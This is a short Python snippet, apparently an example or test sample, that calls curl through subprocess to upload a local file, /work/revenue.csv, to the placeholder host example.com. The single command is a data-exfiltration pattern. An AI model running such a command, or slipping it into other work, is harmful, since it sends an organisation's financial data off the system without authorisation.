import subprocess

subprocess.run(["curl", "-T", "/work/revenue.csv", "https://example.com/"])
